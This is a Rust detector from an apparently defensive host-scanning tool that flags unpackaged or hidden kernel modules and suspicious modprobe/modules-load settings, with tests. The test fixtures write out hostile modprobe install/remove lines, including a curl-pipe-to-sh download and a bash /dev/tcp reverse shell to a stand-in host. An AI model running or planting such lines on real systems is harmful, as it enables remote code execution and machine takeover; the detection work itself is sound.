//! Detector: a kernel module that is loaded at boot or stands among the kernel's own, and comes from nowhere known.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables, entry};
use calma_record::{Certainty, Severity, Text};
use calma_record::{kinds::Module, kinds::ModuleFile, kinds::ModuleSetting};
use std::collections::{BTreeMap, BTreeSet};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "module-setting",
        doc: "A setting loads a kernel module no package owns or runs a command with one, or such a module stands among the kernel's own.",
        mechanisms: &[28],
        attack: &["T1547.006", "T1014"],
        why: "A kernel module has every right there is and can hide anything from all programs of this system.",
        innocent: "you built a driver by hand (graphics card, network card, file system, virtual machine)",
        next: "keep the file as evidence; look which module it says it is, and judge this machine from another kernel",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::startup_commands(tables, &["modprobe rule"], "A rule for kernel modules", drafts);
    let files = Files::new(tables);
    let foreign: BTreeMap<&Text, _> = tables.of::<ModuleFile>().map(|row| (&row.fact.path, row)).collect();
    let loaded: BTreeSet<&Text> = tables.of::<Module>().map(|row| &row.fact.name).collect();
    let mut asked: BTreeMap<&Text, Vec<_>> = BTreeMap::new();
    let mut loose = BTreeSet::new();
    let mut all: Vec<_> = tables.of::<ModuleSetting>().collect();
    all.sort_by(|a, b| a.id.cmp(b.id));
    for row in all {
        if loose.insert(&row.fact.path) {
            let weight = entry::loose(&files, &row.path, None);
            let title = format!("Others may say which kernel modules are loaded: {}", row.path);
            drafts.extend(weigh::draft(
                weight,
                row.path.as_bytes(),
                title,
                &row.path,
                row.line,
                &row.module,
                &row,
            ));
        }
        for file in &row.fact.files {
            asked.entry(file).or_default().push(row);
            if foreign.contains_key(file) {
                continue;
            }
            // A path outside the kernel's own directories.
            let mut weight = entry::standing(&files, file, "the kernel module");
            if weight.severity > Some(Severity::Info) {
                entry::add(&mut weight, Severity::Medium, format!("{} loads it", row.path));
                let identity = [row.path.as_bytes(), b"\0", file.as_bytes()].concat();
                let title = format!("A kernel module of no package is loaded: {file}");
                drafts.extend(
                    weigh::draft(weight, &identity, title, &row.path, row.line, &row.module, &row)
                        .map(|draft| draft.path(file)),
                );
            }
        }
    }
    for settings in asked.values_mut() {
        settings.sort_by(|a, b| (&a.path, a.line).cmp(&(&b.path, b.line)));
    }
    for (path, row) in foreign {
        let asked = asked.get(path).map(Vec::as_slice).unwrap_or_default();
        let mut weight = entry::loose(&files, path, None);
        for place in [path.as_bytes()] {
            if weigh::is_hidden(place) || weigh::is_deceptive(place) {
                entry::add(&mut weight, Severity::High, "its name is made to be overlooked");
            }
        }
        if row.built {
            entry::add(&mut weight, Severity::Info, row.explained.clone());
        } else if row.others_packaged {
            let reason = "it stands among modules of packages, and neither a package nor dkms explains it";
            entry::add(&mut weight, Severity::Medium, reason);
        } else if !row.whole_kernel {
            let reason = format!(
                "nothing else of a kernel {} is here, and neither a package nor dkms explains it",
                row.release
            );
            entry::add(&mut weight, Severity::Medium, reason);
        } else {
            // A whole kernel that no package owns: somebody built it; only what stands out above counts.
            entry::add(&mut weight, Severity::Info, "no module of this kernel belongs to a package");
        }
        if weight.severity < Some(Severity::Low) {
            continue;
        }
        if loaded.contains(&row.fact.name) {
            entry::add(&mut weight, Severity::Low, "a module of this name is loaded now");
        }
        if row.signed == Some(false) {
            entry::add(&mut weight, Severity::Info, "it has no signature");
        }
        drafts.push(draft(&row, weight, asked));
    }
}

fn draft(row: &crate::Row<'_, ModuleFile>, weight: Weight, asked: &[crate::Row<'_, ModuleSetting>]) -> Draft {
    let severity = weight.severity.unwrap_or(Severity::Low);
    let certainty = if severity >= Severity::High { Certainty::VeryLikely } else { Certainty::Possible };
    let title = format!("A kernel module comes from no package: {}", row.name);
    let mut draft = Draft::new(severity, certainty, row.path.as_bytes(), title)
        .path(&row.path)
        .saw(format!("{} is for kernel {}", row.path, row.release))
        .saw_all(weight.reasons)
        .from(row, "the file");
    for setting in asked.iter().take(8) {
        draft = draft
            .saw(format!("line {} of {} loads it at boot", setting.line, setting.path))
            .path(&setting.path)
            .from(setting, "loads it");
    }
    draft
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    const KERNEL: &str = "/lib/modules/6.1.0-9-amd64";

    fn debian() -> Mem {
        Mem::new()
            .file("/var/lib/dpkg/info/linux-image.list", format!("/.\n{KERNEL}/kernel/fs/ext4/ext4.ko\n{KERNEL}/kernel/drivers/block/loop.ko\n/etc/modprobe.d/mdadm.conf\n"))
            .file(format!("{KERNEL}/kernel/fs/ext4/ext4.ko"), "\x7fELF")
            .file(format!("{KERNEL}/kernel/drivers/block/loop.ko"), "\x7fELF")
            .file("/etc/modprobe.d/mdadm.conf", "options md_mod start_ro=1\ninstall scsi_x /sbin/modprobe -i scsi_x; /bin/true\n")
    }

    #[test]
    fn commands_and_modules_from_nowhere_are_found() {
        let ko = |at: &str| format!("{KERNEL}/{at}");
        for (path, text, file) in [
            (
                "/etc/modprobe.d/net.conf",
                "install dummy /sbin/modprobe -i dummy; /var/tmp/d\n".to_owned(),
                "",
            ),
            ("/usr/lib/modprobe.d/z.conf", "install tls curl -s http://192.0.2.1/a | sh\n".to_owned(), ""),
            (
                "/run/modprobe.d/z.conf",
                "remove tls \\\n bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\n".to_owned(),
                "",
            ),
            ("/etc/modules-load.d/snd.conf", "snd-aloop2\n".to_owned(), "kernel/sound/snd-aloop2.ko"),
            ("/etc/modules", "netx\n".to_owned(), "extra/netx.ko.xz"),
            ("/etc/modprobe.d/a.conf", "softdep ext4 pre: crcz\n".to_owned(), "updates/crcz.ko"),
            ("/etc/modules-load.d/x.conf", "loop\n".to_owned(), "kernel/drivers/block/.l/loopx.ko"),
            ("/etc/modules-load.d/p.conf", "/opt/mod/p.ko\n".to_owned(), ""),
        ] {
            let mut host = debian().file(path, text).file("/opt/mod/p.ko", "\x7fELF");
            if !file.is_empty() {
                host = host.file(ko(file), "\x7fELF");
            }
            let seen = check(host);
            let found = seen.alarms("module-setting");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            if !file.contains("loopx") {
                assert!(format!("{:?}", found[0].subjects).contains(path), "{found:#?}");
            }
        }
        // A kernel of which nothing else is here.
        for (setting, path) in [
            ("/etc/modules", "/usr/lib/modules/6.1.0-2-amd64/extra/netx.ko"),
            ("/etc/modules-load.d/q.conf", "/lib/modules/5.10.0/kernel/drivers/pci/netx.ko.zst"),
        ] {
            let seen = check(debian().file(setting, "loop\nnetx\n").file(path, "\x7fELF"));
            let found = seen.alarms("module-setting");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(setting), "{found:#?}");
        }
        let seen = check(debian().file("/etc/modules-load.d/w.conf", "loop\n").owned(
            "/etc/modules-load.d/w.conf",
            0o666,
            0,
            0,
        ));
        assert_eq!(seen.alarms("module-setting").len(), 1);
    }

    #[test]
    fn drivers_that_dkms_built_and_built_kernels_are_no_alarm() {
        let seen = check(
            debian()
                .file(format!("{KERNEL}/updates/dkms/zfs.ko"), "\x7fELF~Module signature appended~\n")
                .file("/var/lib/dkms/zfs/2.1/6.1.0-9-amd64/x86_64/module/zfs.ko", "\x7fELF")
                .file("/lib/modules/6.9.0-own/modules.order", "kernel/fs/x.ko\n")
                .file("/lib/modules/6.9.0-own/kernel/fs/x.ko", "\x7fELF")
                .file("/lib/modules/6.9.0-own/kernel/net/y.ko", "\x7fELF")
                .file("/etc/modules-load.d/zfs.conf", "# at boot\nzfs\nloop\nbr_netfilter\n")
                .file("/etc/modprobe.d/local.conf", "blacklist nouveau\noptions kvm nested=1\ninstall usb-storage /bin/false\ninstall dccp /bin/true\nalias net-pf-10 off\n"),
        );
        assert!(seen.by("module-setting").is_empty(), "{:#?}", seen.findings);
    }
}
